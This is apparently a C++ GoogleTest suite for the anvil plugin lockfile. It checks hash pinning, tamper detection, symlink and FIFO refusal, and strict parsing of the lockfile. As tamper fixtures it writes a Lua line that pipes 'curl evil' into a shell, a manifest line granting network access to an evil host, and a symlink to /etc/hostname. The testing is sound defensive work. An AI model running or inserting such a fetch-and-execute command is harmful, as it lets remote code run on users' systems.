// T8: anvil.lock pins each plugin's manifest and code. Tampering with any pinned file (or
// adding a module) is detected and the refusal names the file; symlinks in a plugin are refused
// rather than hashed through; the lockfile parser is strict and names lines.
#include "policy/lockfile.h"

#include <gtest/gtest.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "policy/digest.h"

namespace anvil {
namespace lockfile_test {
namespace {

const std::string kManifest = R"(id = "example.todo-finder"
version = "0.1.0"
runtime = "lua"
entry = "main.lua"
[permissions]
exec = ["rg"]
)";

class LockfileTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char pattern[] = "/tmp/anvil-lock-XXXXXX";
    ASSERT_NE(::mkdtemp(pattern), nullptr);
    root_ = pattern;
    plugin_ = root_ + "/plugin";
    std::filesystem::create_directories(plugin_ + "/lib/sub");
    Write("anvil-plugin.toml", kManifest);
    Write("main.lua", "anvil.command('x', function() return 1 end)\n");
    Write("lib/util.lua", "return {}\n");
    Write("lib/helper.js", "module.exports = {}\n");
    Write("lib/README.txt", "not code\n");
    Write("lib/sub/deep.lua", "-- not loaded by the host\n");
  }
  void TearDown() override { std::filesystem::remove_all(root_); }

  void Write(const std::string& rel, const std::string& text) {
    std::ofstream(plugin_ + "/" + rel, std::ios::binary | std::ios::trunc) << text;
  }
  Manifest LoadOk() {
    auto m = LoadManifest(plugin_);
    EXPECT_TRUE(m) << m.error().ToString();
    return *m;
  }
  PluginHashes HashOk() {
    auto h = HashPluginDir(plugin_, LoadOk());
    EXPECT_TRUE(h) << h.error().ToString();
    return *h;
  }
  Lockfile LockNow() {
    Lockfile lock;
    lock.plugins["example.todo-finder"] = HashOk();
    return lock;
  }

  std::string root_, plugin_;
};

TEST_F(LockfileTest, HashesEntryAndLibModulesOnly) {
  const PluginHashes h = HashOk();
  std::vector<std::string> paths;
  for (const auto& [path, digest] : h.files) paths.push_back(path);
  EXPECT_EQ(paths, (std::vector<std::string>{"lib/helper.js", "lib/util.lua", "main.lua"}));
  EXPECT_EQ(h.files.at("lib/util.lua"), Sha256Hex("return {}\n"));
  EXPECT_EQ(h.manifest_sha256, Sha256Hex(kManifest));
  EXPECT_EQ(h.code_sha256, CodeSha256(h.files));
}

TEST_F(LockfileTest, CodeHashIsOverSortedPathsAndHashes) {
  std::map<std::string, std::string> files = {{"main.lua", std::string(64, '1')},
                                              {"lib/a.lua", std::string(64, '2')}};
  const std::string nul(1, '\0');
  EXPECT_EQ(CodeSha256(files), Sha256Hex("lib/a.lua" + nul + std::string(64, '2') + "\n" +
                                         "main.lua" + nul + std::string(64, '1') + "\n"));
  // Renaming a file (same bytes) changes the code hash.
  std::map<std::string, std::string> renamed = {{"main.lua", std::string(64, '1')},
                                                {"lib/b.lua", std::string(64, '2')}};
  EXPECT_NE(CodeSha256(files), CodeSha256(renamed));
}

TEST_F(LockfileTest, RenderParseRoundTrip) {
  const Lockfile lock = LockNow();
  const std::string text = RenderLockfile(lock);
  EXPECT_NE(text.find("version = 1\n"), std::string::npos);
  EXPECT_NE(text.find("[plugins.\"example.todo-finder\"]\n"), std::string::npos) << text;
  EXPECT_NE(text.find("[plugins.\"example.todo-finder\".files]\n\"lib/helper.js\" = \""),
            std::string::npos)
      << text;
  auto parsed = ParseLockfile(text);
  ASSERT_TRUE(parsed) << parsed.error().ToString() << "\n" << text;
  EXPECT_EQ(*parsed, lock);
  EXPECT_EQ(RenderLockfile(*parsed), text);  // deterministic
  EXPECT_EQ(RenderLockfile(Lockfile{}), RenderLockfile(*ParseLockfile(RenderLockfile({}))));
}

TEST_F(LockfileTest, UnchangedPluginVerifies) {
  EXPECT_TRUE(VerifyAgainstLock(LockNow(), "example.todo-finder", HashOk()));
}

TEST_F(LockfileTest, TamperedEntryIsDetectedNamingTheFile) {
  const Lockfile lock = LockNow();
  const std::string before = lock.plugins.at("example.todo-finder").files.at("main.lua");
  Write("main.lua", "os.execute('curl evil | sh')\n");
  auto s = VerifyAgainstLock(lock, "example.todo-finder", HashOk());
  ASSERT_FALSE(s);
  EXPECT_EQ(s.error().code, "denied");
  EXPECT_EQ(
      s.error().message.rfind("anvil.lock: main.lua changed (expected " + before + ", found " +
                                  Sha256Hex("os.execute('curl evil | sh')\n") + ")",
                              0),
      0u)
      << s.error().ToString();
}

TEST_F(LockfileTest, TamperedModuleIsDetectedNamingTheFile) {
  const Lockfile lock = LockNow();
  Write("lib/util.lua", "return { evil = true }\n");
  auto s = VerifyAgainstLock(lock, "example.todo-finder", HashOk());
  ASSERT_FALSE(s);
  EXPECT_NE(s.error().message.find("anvil.lock: lib/util.lua changed"), std::string::npos)
      << s.error().ToString();
}

TEST_F(LockfileTest, AddedModuleIsDetected) {
  const Lockfile lock = LockNow();
  Write("lib/backdoor.lua", "return 1\n");
  auto s = VerifyAgainstLock(lock, "example.todo-finder", HashOk());
  ASSERT_FALSE(s);
  EXPECT_NE(
      s.error().message.find("anvil.lock: lib/backdoor.lua changed (expected no file, found " +
                             Sha256Hex("return 1\n") + ")"),
      std::string::npos)
      << s.error().ToString();
}

TEST_F(LockfileTest, RemovedModuleIsDetected) {
  const Lockfile lock = LockNow();
  std::filesystem::remove(plugin_ + "/lib/helper.js");
  auto s = VerifyAgainstLock(lock, "example.todo-finder", HashOk());
  ASSERT_FALSE(s);
  EXPECT_NE(s.error().message.find("anvil.lock: lib/helper.js changed (expected "),
            std::string::npos);
  EXPECT_NE(s.error().message.find(", found no file)"), std::string::npos) << s.error().message;
}

TEST_F(LockfileTest, ChangedManifestIsDetected) {
  const Lockfile lock = LockNow();
  Write("anvil-plugin.toml", kManifest + "net.hosts = [\"evil.example\"]\n");
  auto s = VerifyAgainstLock(lock, "example.todo-finder", HashOk());
  ASSERT_FALSE(s);
  EXPECT_NE(s.error().message.find("anvil.lock: anvil-plugin.toml changed (expected " +
                                   Sha256Hex(kManifest)),
            std::string::npos)
      << s.error().message;
}

TEST_F(LockfileTest, IgnoredFilesDoNotMatter) {
  const Lockfile lock = LockNow();
  Write("lib/README.txt", "edited\n");
  Write("lib/sub/deep.lua", "-- edited\n");
  Write("notes.md", "x\n");
  EXPECT_TRUE(VerifyAgainstLock(lock, "example.todo-finder", HashOk()));
}

TEST_F(LockfileTest, UnpinnedPluginIsNotFound) {
  auto s = VerifyAgainstLock(Lockfile{}, "example.todo-finder", HashOk());
  ASSERT_FALSE(s);
  EXPECT_EQ(s.error().code, "not_found");
}

TEST_F(LockfileTest, HandBuiltHashesWithInconsistentCodeHashAreDenied) {
  const Lockfile lock = LockNow();
  PluginHashes forged = HashOk();
  forged.code_sha256 = std::string(64, '0');
  EXPECT_FALSE(VerifyAgainstLock(lock, "example.todo-finder", forged));
}

TEST_F(LockfileTest, SymlinkedEntryIsRefused) {
  Write("real.lua", "return 1\n");
  std::filesystem::remove(plugin_ + "/main.lua");
  ASSERT_EQ(::symlink("real.lua", (plugin_ + "/main.lua").c_str()), 0);
  auto h = HashPluginDir(plugin_, LoadOk());
  ASSERT_FALSE(h);
  EXPECT_EQ(h.error().code, "denied");
  EXPECT_NE(h.error().message.find("symbolic link"), std::string::npos);
}

TEST_F(LockfileTest, EntryThroughSymlinkedDirectoryIsRefused) {
  std::filesystem::create_directories(root_ + "/elsewhere");
  std::ofstream(root_ + "/elsewhere/main.lua") << "return 1\n";
  ASSERT_EQ(::symlink((root_ + "/elsewhere").c_str(), (plugin_ + "/src").c_str()), 0);
  Write("anvil-plugin.toml", R"(id = "p"
version = "1"
runtime = "lua"
entry = "src/main.lua"
)");
  auto h = HashPluginDir(plugin_, LoadOk());
  ASSERT_FALSE(h);
  EXPECT_EQ(h.error().code, "denied");
}

TEST_F(LockfileTest, SymlinkedLibOrModuleIsRefused) {
  ASSERT_EQ(::symlink("/etc/hostname", (plugin_ + "/lib/evil.lua").c_str()), 0);
  auto h = HashPluginDir(plugin_, LoadOk());
  ASSERT_FALSE(h);
  EXPECT_EQ(h.error().code, "denied");
  EXPECT_NE(h.error().message.find("lib/evil.lua"), std::string::npos) << h.error().message;

  std::filesystem::remove_all(plugin_ + "/lib");
  std::filesystem::create_directories(root_ + "/otherlib");
  ASSERT_EQ(::symlink((root_ + "/otherlib").c_str(), (plugin_ + "/lib").c_str()), 0);
  auto h2 = HashPluginDir(plugin_, LoadOk());
  ASSERT_FALSE(h2);
  EXPECT_EQ(h2.error().code, "denied");
}

TEST_F(LockfileTest, FifoModuleIsRefusedWithoutBlocking) {
  ASSERT_EQ(::mkfifo((plugin_ + "/lib/pipe.lua").c_str(), 0600), 0);
  auto h = HashPluginDir(plugin_, LoadOk());
  ASSERT_FALSE(h);
  EXPECT_EQ(h.error().code, "invalid");
}

TEST_F(LockfileTest, TooManyModulesOrTooLargeFilesAreRefused) {
  for (std::size_t i = 0; i <= kMaxPluginLibFiles; ++i) {
    Write("lib/m" + std::to_string(i) + ".lua", "return 1\n");
  }
  auto h = HashPluginDir(plugin_, LoadOk());
  ASSERT_FALSE(h);
  EXPECT_EQ(h.error().code, "limit");

  std::filesystem::remove_all(plugin_ + "/lib");
  Write("main.lua", std::string(kMaxPluginFileBytes + 1, 'x'));
  auto big = HashPluginDir(plugin_, LoadOk());
  ASSERT_FALSE(big);
  EXPECT_EQ(big.error().code, "limit");
}

TEST_F(LockfileTest, MissingEntryIsNotFound) {
  std::filesystem::remove(plugin_ + "/main.lua");
  auto h = HashPluginDir(plugin_, LoadOk());
  ASSERT_FALSE(h);
  EXPECT_EQ(h.error().code, "not_found");
}

TEST_F(LockfileTest, ReadAndWriteInTheWorkspace) {
  const std::string ws = root_ + "/ws";
  std::filesystem::create_directories(ws);
  auto none = ReadLockfile(ws);
  ASSERT_FALSE(none);
  EXPECT_EQ(none.error().code, "not_found");
  const Lockfile lock = LockNow();
  ASSERT_TRUE(WriteLockfile(ws, lock));
  auto back = ReadLockfile(ws);
  ASSERT_TRUE(back) << back.error().ToString();
  EXPECT_EQ(*back, lock);
  struct stat st {};
  ASSERT_EQ(::stat((ws + "/anvil.lock").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0644u);

  // A symlinked anvil.lock is not read through...
  std::filesystem::remove(ws + "/anvil.lock");
  const std::string target = root_ + "/target.lock";
  std::ofstream(target) << RenderLockfile(lock);
  ASSERT_EQ(::symlink(target.c_str(), (ws + "/anvil.lock").c_str()), 0);
  auto through = ReadLockfile(ws);
  ASSERT_FALSE(through);
  EXPECT_EQ(through.error().code, "denied");
  // ...nor written through: the link is replaced and its target left alone.
  ASSERT_TRUE(WriteLockfile(ws, Lockfile{}));
  EXPECT_EQ(*ReadLockfile(ws), Lockfile{});
  std::ifstream in(target);
  std::string kept((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_EQ(kept, RenderLockfile(lock));
}

struct BadLock {
  const char* name;
  std::string text;
  int line;
  const char* message;
};

TEST(LockfileParse, MalformedLockfilesAreRefusedNamingTheLine) {
  const std::string h1(64, '1');
  const std::map<std::string, std::string> files = {{"main.lua", h1}};
  const std::string code = CodeSha256(files);
  const std::string good_plugin = "[plugins.\"p\"]\nmanifest_sha256 = \"" + h1 +
                                  "\"\ncode_sha256 = \"" + code +
                                  "\"\n[plugins.\"p\".files]\n\"main.lua\" = \"" + h1 + "\"\n";
  ASSERT_TRUE(ParseLockfile("version = 1\n" + good_plugin));
  const std::vector<BadLock> cases = {
      {"missing version", good_plugin, 1, "missing 'version'"},
      {"version 2", "version = 2\n", 1, "unsupported lockfile version"},
      {"version string", "version = \"1\"\n", 1, "unsupported lockfile version"},
      {"unknown top key", "version = 1\ntrust = true\n", 2, "unknown key 'trust'"},
      {"plugins not a table", "version = 1\nplugins = 1\n", 2, "plugins must be a table"},
      {"bad plugin id", "version = 1\n[plugins.\"Bad/Id\"]\n", 2, "must start with a-z"},
      {"plugin not a table", "version = 1\n[plugins]\np = 1\n", 3, "must be a table"},
      {"unknown plugin key",
       "version = 1\n" + good_plugin.substr(0, good_plugin.find("[plugins.\"p\".files]")) +
           "signature = \"x\"\n",
       5, "unknown key 'signature'"},
      {"upper-case hash",
       "version = 1\n[plugins.\"p\"]\nmanifest_sha256 = \"" + std::string(64, 'A') + "\"\n", 3,
       "64 lower-case hex"},
      {"short hash", "version = 1\n[plugins.\"p\"]\ncode_sha256 = \"abc\"\n", 3,
       "64 lower-case hex"},
      {"hash not a string", "version = 1\n[plugins.\"p\"]\ncode_sha256 = 1\n", 3,
       "64 lower-case hex"},
      {"missing files",
       "version = 1\n[plugins.\"p\"]\nmanifest_sha256 = \"" + h1 + "\"\ncode_sha256 = \"" + code +
           "\"\n",
       2, "non-empty files table"},
      {"files not a table", "version = 1\n[plugins.\"p\"]\nfiles = [\"main.lua\"]\n", 3,
       "files must be a table"},
      {"file path escapes",
       "version = 1\n[plugins.\"p\".files]\n\"../main.lua\" = \"" + h1 + "\"\n", 3,
       "not a plain relative path"},
      {"file path absolute", "version = 1\n[plugins.\"p\".files]\n\"/etc/x\" = \"" + h1 + "\"\n", 3,
       "not a plain relative path"},
      {"file hash bad", "version = 1\n[plugins.\"p\".files]\n\"main.lua\" = \"nope\"\n", 3,
       "64 lower-case hex"},
      {"code hash mismatch",
       "version = 1\n[plugins.\"p\"]\nmanifest_sha256 = \"" + h1 + "\"\ncode_sha256 = \"" + h1 +
           "\"\n[plugins.\"p\".files]\n\"main.lua\" = \"" + h1 + "\"\n",
       2, "does not match its files"},
      {"not toml", "version = 1\n[plugins\n", 2, "not valid TOML"},
  };
  for (const BadLock& c : cases) {
    SCOPED_TRACE(c.name);
    auto lock = ParseLockfile(c.text);
    ASSERT_FALSE(lock) << "accepted";
    EXPECT_EQ(lock.error().code, "invalid");
    const std::string prefix = "anvil.lock:" + std::to_string(c.line) + ":";
    EXPECT_EQ(lock.error().message.rfind(prefix, 0), 0u) << lock.error().ToString();
    EXPECT_NE(lock.error().message.find(c.message), std::string::npos) << lock.error().ToString();
  }
}

}  // namespace
}  // namespace lockfile_test
}  // namespace anvil
